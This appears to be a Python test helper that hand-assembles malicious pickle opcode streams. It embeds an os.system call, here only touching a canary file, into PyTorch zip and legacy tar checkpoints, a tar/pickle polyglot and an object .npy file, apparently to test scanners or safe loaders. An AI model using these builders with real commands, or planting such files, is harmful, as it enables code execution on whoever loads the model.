"""Builds malicious pickles by hand (opcode streams), so no payload is ever created by pickling a live object."""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path


def _str(s: str) -> bytes:
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def global_op(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call(module: str, name: str, *args: str) -> bytes:
    """GLOBAL module.name, a tuple of string args, REDUCE."""
    return global_op(module, name) + b"(" + b"".join(_str(a) for a in args) + b"tR"


def touch_command(canary: Path) -> str:
    return f"touch {canary}"


def os_system_pickle(canary: Path) -> bytes:
    """A dict holding a tensor-free payload: {'x': os.system('touch canary')}."""
    return b"\x80\x02}" + _str("x") + call("os", "system", touch_command(canary)) + b"s."


def state_dict_with_payload(canary: Path) -> bytes:
    """A real-looking state_dict pickle (one tensor via persistent id) plus an os.system entry."""
    tensor = (global_op("torch._utils", "_rebuild_tensor_v2") + b"(" +
              b"(" + _str("storage") + global_op("torch", "FloatStorage") + _str("0") + _str("cpu") + b"K\x04t" +
              b"Q" + b"K\x00" + b"K\x04\x85" + b"K\x01\x85" + b"\x89" +
              global_op("collections", "OrderedDict") + b")R" + b"tR")
    return (b"\x80\x02}(" + _str("fc.weight") + tensor + _str("payload") +
            call("os", "system", touch_command(canary)) + b"u.")


def stored_zip(members: dict[str, bytes]) -> bytes:
    """A zip archive of `members` (name -> bytes), stored, in the order given."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def torch_zip(pickle_bytes: bytes, storages: dict[str, bytes], prefix: str = "archive") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{prefix}/data.pkl", pickle_bytes)
        for key, data in storages.items():
            z.writestr(f"{prefix}/data/{key}", data)
        z.writestr(f"{prefix}/version", "3\n")
    return buf.getvalue()


def _binint(n: int) -> bytes:
    return b"J" + struct.pack("<i", n)


def tar_members(tensors: dict[str, list[float]], storages_payload: bytes = b"") -> dict[str, bytes]:
    """The members of torch's pre-0.4 tar format holding float32 tensors, written opcode by opcode.

    `storages_payload` (opcodes that leave one value on the stack) goes into the first storage's argument pickle,
    which torch unpickles with the full unpickler before anything else.
    """
    names = list(tensors)
    storages = bytearray(b"\x80\x02" + _binint(len(names)) + b".")
    for i, name in enumerate(names):
        values = [float(v) for v in tensors[name]]
        extra = storages_payload + b"0" if (i == 0 and storages_payload) else b""
        storages += b"\x80\x02" + extra + _binint(1 + i) + _str("cpu") + global_op("torch", "FloatStorage") + b"\x87."
        storages += struct.pack("<q", len(values)) + struct.pack(f"<{len(values)}f", *values)
    storages += b"\x80\x02]."  # no storage views
    tens = bytearray(b"\x80\x02" + _binint(len(names)) + b".")
    for i, name in enumerate(names):
        tens += b"\x80\x02" + _binint(100_000 + i) + _binint(1 + i) + b"N\x87."
        tens += struct.pack("<i", 1) + b"\0" * 4 + struct.pack("<qqq", len(tensors[name]), 1, 0)
    body = b"}" + (b"(" + b"".join(_str(n) + _binint(100_000 + i) + b"Q" for i, n in enumerate(names)) + b"u"
                   if names else b"")
    return {"storages": bytes(storages), "tensors": bytes(tens), "pickle": b"\x80\x02" + body + b"."}


def tar_checkpoint(tensors: dict[str, list[float]], storages_payload: bytes = b"") -> bytes:
    import tarfile

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in tar_members(tensors, storages_payload).items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


MAGIC_PICKLE = b"\x80\x02\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + b"."


def tar_legacy_polyglot(legacy_object_pickle: bytes, tar_tensors: dict[str, list[float]]) -> bytes:
    """One file that tarfile opens as torch's tar format and that unpickles, from byte 0, as the legacy sequence.

    The tar header's name field starts with the magic-number pickle; the second pickle's string swallows the rest
    of the header (tar fields are ASCII, so valid UTF-8). torch.load(path) takes the tar; the same bytes from a
    stream, or after a tar error, run the legacy sequence — whose object pickle is `legacy_object_pickle`.
    """
    import tarfile

    legacy_rest = (b"M\xe9\x03." + b"\x80\x02}." + legacy_object_pickle + b"\x80\x02]."  # 1001, sys info, object, []
                   )
    header = bytearray(512)
    head = MAGIC_PICKLE + b"\x80\x02X" + struct.pack("<I", 512 - 22)
    header[:len(head)] = head
    header[100:108] = b"0000644\0"
    header[108:116] = b"0000000\0"
    header[116:124] = b"0000000\0"
    header[124:136] = b"%011o\0" % len(legacy_rest)
    header[136:148] = b"00000000000\0"
    header[156:157] = b"0"
    header[257:265] = b"ustar\x0000"
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header)
    tail = io.BytesIO()
    with tarfile.open(fileobj=tail, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in tar_members(tar_tensors).items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return bytes(header) + legacy_rest + b"\0" * (-len(legacy_rest) % 512) + tail.getvalue()


def object_npy(pickle_bytes: bytes) -> bytes:
    """An .npy of one object array whose pickle is `pickle_bytes` (np.load(allow_pickle=True) unpickles it)."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(10 + len(header) + 1) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickle_bytes
